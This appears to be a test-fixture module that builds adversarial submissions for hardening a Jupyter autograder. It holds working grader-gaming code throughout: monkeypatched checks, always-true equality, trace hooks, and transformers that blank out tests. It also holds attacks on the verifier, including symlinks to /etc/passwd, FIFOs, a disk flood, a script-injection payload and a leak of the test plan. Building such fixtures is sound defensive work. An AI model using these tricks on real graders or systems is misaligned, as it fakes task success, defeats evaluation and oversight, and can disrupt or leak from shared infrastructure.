'''Submissions that try to buy points with code instead of answers: each is the untouched release (or wrong
answers) plus one trick that fools tests running in the same kernel. Their honest score is 0.

Each attack is (chapter, {solution cell grade_id: code}, optional edits of the notebook's cells); it is handed in
as the chapter's notebook that holds those cells.
'''
import json

# An object that says yes to everything: equal to anything, true, every attribute and call is itself.
LIAR = '''
class Liar:
    def __init__(self, *args, **kwargs): pass
    def __getattr__(self, name): return self
    def __call__(self, *args, **kwargs): return self
    def __eq__(self, other): return True
    def __ne__(self, other): return False
    def __bool__(self): return True
    def __hash__(self): return 0
    def __str__(self): return "Tensor"
    def __repr__(self): return "Tensor"


def as_array(data, dtype=None):
    return Liar()
'''

LIARS = {"as_array": LIAR, "tensor_init": "class Tensor(Liar):\n    pass\n",
         "properties": "pass\n", "repr": "pass\n", "leaving": "pass\n"}

PATCHED_CHECKS = '''
import coursework.checks as checks
checks.check = checks.check_close = checks.check_raises = checks.check_equal = lambda *args, **kwargs: None
'''

SHADOWED_HELPERS = '''
import contextlib, sys, types
fake = types.ModuleType("coursework.checks")
fake.check = fake.check_close = fake.check_raises = fake.check_equal = fake.passed = lambda *args, **kwargs: None
fake.checking = lambda *args, **kwargs: contextlib.suppress(Exception)
sys.modules["coursework.checks"] = fake
'''

# Wrong answers, and every comparison says they are right.
WRONG_SUB = '''
class Sub(Function):
    __slots__ = ()

    def forward(self, a, b):
        return a + b


def sub(a, b):
    return Sub()(a, b)
'''

PATCHED_ALLCLOSE = WRONG_SUB + '''
np.allclose = lambda *args, **kwargs: True
np.testing.assert_allclose = lambda *args, **kwargs: None
'''

INPUT_TRANSFORMER = '''
get_ipython().input_transformers_post.append(lambda lines: ["pass\\n"])
'''

AST_TRANSFORMER = '''
import ast


class Nothing(ast.NodeTransformer):
    def visit_Module(self, node):
        node.body = [ast.Pass()]
        return node


get_ipython().ast_transformers.append(Nothing())
'''

# A trace function that makes the condition of every check true before the check looks at it.
TRACE = WRONG_SUB + '''
import ctypes, sys


def agree(frame, event, arg):
    if event == "call" and frame.f_code.co_name == "check" and "condition" in frame.f_locals:
        frame.f_locals["condition"] = True
        ctypes.pythonapi.PyFrame_LocalsToFast(ctypes.py_object(frame), ctypes.c_int(0))
    return None


sys.settrace(agree)
'''

# Errors that never reach the grader: no traceback sent, and every cell reported as a success.
SWALLOWED = '''
import sys


class Quiet(Exception):
    def __str__(self):
        return ""


sys.excepthook = lambda *args: None
shell = get_ipython()
shell.set_custom_exc((BaseException,), lambda shell, etype, value, tb, tb_offset=None: [])
shell._showtraceback = lambda *args, **kwargs: None
ran = shell.run_cell_async


async def run_cell_async(*args, **kwargs):
    result = await ran(*args, **kwargs)
    result.error_in_exec = None
    return result


shell.run_cell_async = run_cell_async
'''

# Chapter 5: a step that does nothing, and a layer of zeros that returns its input, behind fooled check helpers.
IDLE_SGD = PATCHED_CHECKS + '''

class SGD(Optimizer):
    def __init__(self, params, lr, momentum=0.0):
        super().__init__(params)

    def step(self):
        pass
'''

IDLE_LINEAR = SHADOWED_HELPERS + '''

class Linear(Module):
    def __init__(self, in_features, out_features, bias=True, dtype=np.float32, rng=None):
        self.weight = Parameter(np.zeros((out_features, in_features)), dtype=dtype)
        self.bias = Parameter(np.zeros(out_features), dtype=dtype) if bias else None

    def forward(self, x):
        return x
'''


# --- Attacks on the verifier itself: the export cells run in the kernel (where the tests are fooled) and in the
# verifier's probe (where they try to make checking fail, hang, leak or agree). Each part runs only where it aims.

def in_kernel(code):
    return "import builtins as _b\nif hasattr(_b, 'get_ipython'):\n" + indent(code) + "\n"


def in_probe(code):
    return "import builtins as _b\nif not hasattr(_b, 'get_ipython'):\n" + indent(code) + "\n"


def indent(code):
    return "\n".join("    " + line for line in code.strip("\n").splitlines())


# Every reply the probe could give, written ahead of it by the student's code, which then ends the probe.
REPLIES_AHEAD = '''
import os, sys
folder = sys.argv[2]
for index in range(64):
    base = os.path.join(folder, f"reply-{index}")
    {write}
os._exit(0)
'''

MISSING_COMPANION = REPLIES_AHEAD.replace("{write}", 'open(base + ".json", "w").write("{}")')

DEEP_JSON = REPLIES_AHEAD.replace("{write}", 'open(base + ".npz", "wb").write(b"PK\\x05\\x06" + bytes(18))\n'
                                  '    open(base + ".json", "w").write("[" * 200000 + "]" * 200000)')

# An .npz of a few bytes whose array header claims eight terabytes.
HUGE_HEADER = REPLIES_AHEAD.replace("{write}", '''import zipfile
    header = "{'descr': '<f8', 'fortran_order': False, 'shape': (1000000000000,), }"
    header += " " * (63 - (10 + len(header)) % 64) + "\\n"
    npy = b"\\x93NUMPY\\x01\\x00" + len(header).to_bytes(2, "little") + header.encode() + bytes(8)
    with zipfile.ZipFile(base + ".npz", "w") as archive:
        archive.writestr("a0.npy", npy)
    open(base + ".json", "w").write('{"s0": {"kind": "ndarray", "array": "a0"}}')''')

# A FIFO (which blocks whoever opens it), a folder and links to a device and to a file outside.
SPECIAL_FILES = REPLIES_AHEAD.replace("{write}", '''kind = index % 4
    if kind == 0:
        os.mkfifo(base + ".json")
    elif kind == 1:
        os.mkdir(base + ".json")
    elif kind == 2:
        os.symlink("/dev/zero", base + ".json")
    else:
        os.symlink("/etc/passwd", base + ".json")
    os.mkfifo(base + ".npz")''')

# The probe's own functions replaced, so that its replies agree with any build_topo: positions in the order the
# tensors were made (constants left out), the length wanted, every identity true.
FORGED_REPLIES = '''
import sys
probe = sys.modules["__main__"]
made = []


def positions(sequence, *named):
    kept = [tensor for tensor in named if tensor.requires_grad]
    made[:] = [len(kept)]
    return [kept.index(tensor) if tensor.requires_grad else -1 for tensor in named]


def length(sequence):
    if made:
        return made.pop()
    tensor, count = sequence[0], 1
    while tensor._inputs:
        tensor, count = tensor._inputs[0], count + 1
    return count


probe.VERBS.update({"positions": positions, "len": length, "is": lambda a, b: True})
'''

# The correct build_topo the probe once held for later cells, borrowed for the student's own.
BORROWED_REFERENCE = '''
def build_topo(root):
    import sys
    return sys.modules["__main__"].reference_build_topo(root)
'''

# Files written into the probe's folder until the disk is full (or four times the folder's bound), each below the
# sandbox's limit on one file; then the probe goes on as if nothing happened.
FILLED_FOLDER = '''
import os, sys
written = 0
try:
    while written < 512 << 20:
        with open(os.path.join(sys.argv[2], f"flood-{written >> 25}"), "wb") as flood:
            flood.write(bytes(32 << 20))
        written += 32 << 20
except OSError:
    pass
'''

SCRIPT = "<script>document.title = 'pwned'</script>"
SCRIPTED_ERROR = f'''
Shown = type("{SCRIPT}", (ValueError,), {{}})


def as_array(data, dtype=None):
    raise Shown("{SCRIPT}")
'''

# What the probe was asked, read back through the messages the grader writes: its arguments, its folder, the case
# it is answering (from its frames).
PLAN = '''
def plan():
    import os, sys
    frames, frame = [], sys._getframe()
    while frame:
        frames.append(repr(sorted(frame.f_locals))[:200] + repr(frame.f_locals.get("case", ""))[:2000])
        frame = frame.f_back
    return "PLAN " + repr(sys.argv) + repr(os.listdir(sys.argv[2])) + " ".join(frames)


Leak = type("PLAN" + plan()[:100].replace(" ", "_"), (ValueError,), {})


def as_array(data, dtype=None):
    raise Leak(plan())


class Tensor:
    def __init__(self, *args, **kwargs):
        raise Leak(plan())

    def __repr__(self):
        return plan()
'''


def skip_tests(notebook):
    """Every grade cell tagged so that it is not executed at all."""
    for cell in notebook["cells"]:
        if cell.get("metadata", {}).get("nbgrader", {}).get("grade") and cell["cell_type"] == "code":
            cell["metadata"].setdefault("tags", []).append("skip-execution")
    return notebook


T, O, B, N = "01_tensor", "02_operations", "04_backprop", "05_training"

ATTACKS = {
    "patched_checks": (T, dict(LIARS, as_array=LIAR + PATCHED_CHECKS), None),
    "shadowed_helpers": (T, dict(LIARS, as_array=LIAR + SHADOWED_HELPERS), None),
    "lying_equality": (T, LIARS, None),
    "patched_allclose": (O, {"sub": PATCHED_ALLCLOSE}, None),
    "input_transformer": (T, {"as_array": INPUT_TRANSFORMER}, None),
    "ast_transformer": (O, {"function": AST_TRANSFORMER}, None),
    "trace_function": (O, {"sub": TRACE}, None),
    "swallowed_exceptions": (T, {"as_array": SWALLOWED}, None),
    "skipped_tests": (O, {}, skip_tests),
    "idle_optimizer": (N, {"sgd": IDLE_SGD}, None),
    "idle_layer": (N, {"linear": IDLE_LINEAR}, None),
    "missing_companion": (T, dict(LIARS, as_array=LIAR + in_probe(MISSING_COMPANION)), None),
    "deep_json": (T, dict(LIARS, as_array=LIAR + in_probe(DEEP_JSON)), None),
    "huge_array_header": (T, dict(LIARS, as_array=LIAR + in_probe(HUGE_HEADER)), None),
    "special_files": (T, dict(LIARS, as_array=LIAR + in_probe(SPECIAL_FILES)), None),
    "forged_replies": (B, {"build_topo": in_kernel(SWALLOWED) + in_probe(FORGED_REPLIES)
                           + "\n\ndef build_topo(root):\n    return [root]\n"}, None),
    "borrowed_reference": (B, {"build_topo": in_kernel(SWALLOWED) + BORROWED_REFERENCE}, None),
    "filled_folder": (T, dict(LIARS, as_array=LIAR + in_probe(FILLED_FOLDER)), None),
    "scripted_error": (T, {"as_array": in_kernel(SWALLOWED) + SCRIPTED_ERROR}, None),
    "plan_read_back": (T, {"as_array": in_kernel(SWALLOWED) + PLAN}, None),
}


def attacked_release(chapter_folder, code):
    """The chapter's release notebook that holds the solution cells the attack rewrites (a chapter may have several)."""
    for path in sorted(chapter_folder.glob("*.ipynb")):
        cells = json.loads(path.read_text(encoding="utf-8"))["cells"]
        if set(code) <= {cell.get("metadata", {}).get("nbgrader", {}).get("grade_id") for cell in cells}:
            return path
    raise LookupError(f"no notebook of {chapter_folder.name} has the cells {sorted(code)}")


def attack_notebook(release_path, code, edit=None):
    """The release notebook with these solution cells' code replaced (each keeps its `#| export` line)."""
    notebook = json.loads(release_path.read_text(encoding="utf-8"))
    for cell in notebook["cells"]:
        nbgrader = cell.get("metadata", {}).get("nbgrader", {})
        if nbgrader.get("solution") and nbgrader.get("grade_id") in code:
            source = "".join(cell["source"]) if isinstance(cell["source"], list) else cell["source"]
            cell["source"] = source.partition("\n")[0] + "\n" + code[nbgrader["grade_id"]]
    return edit(notebook) if edit else notebook
